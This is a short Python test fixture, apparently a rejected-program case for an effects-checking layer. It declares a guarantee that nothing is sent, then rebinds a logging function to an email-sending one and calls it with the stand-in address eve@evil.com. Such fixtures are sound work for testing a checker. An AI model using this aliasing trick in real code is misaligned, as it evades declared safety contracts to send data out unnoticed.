# rejected: a program must not change the layer
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted import effects as fx


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    fx.log = fx.send_email
    fx.log("eve@evil.com", "x")
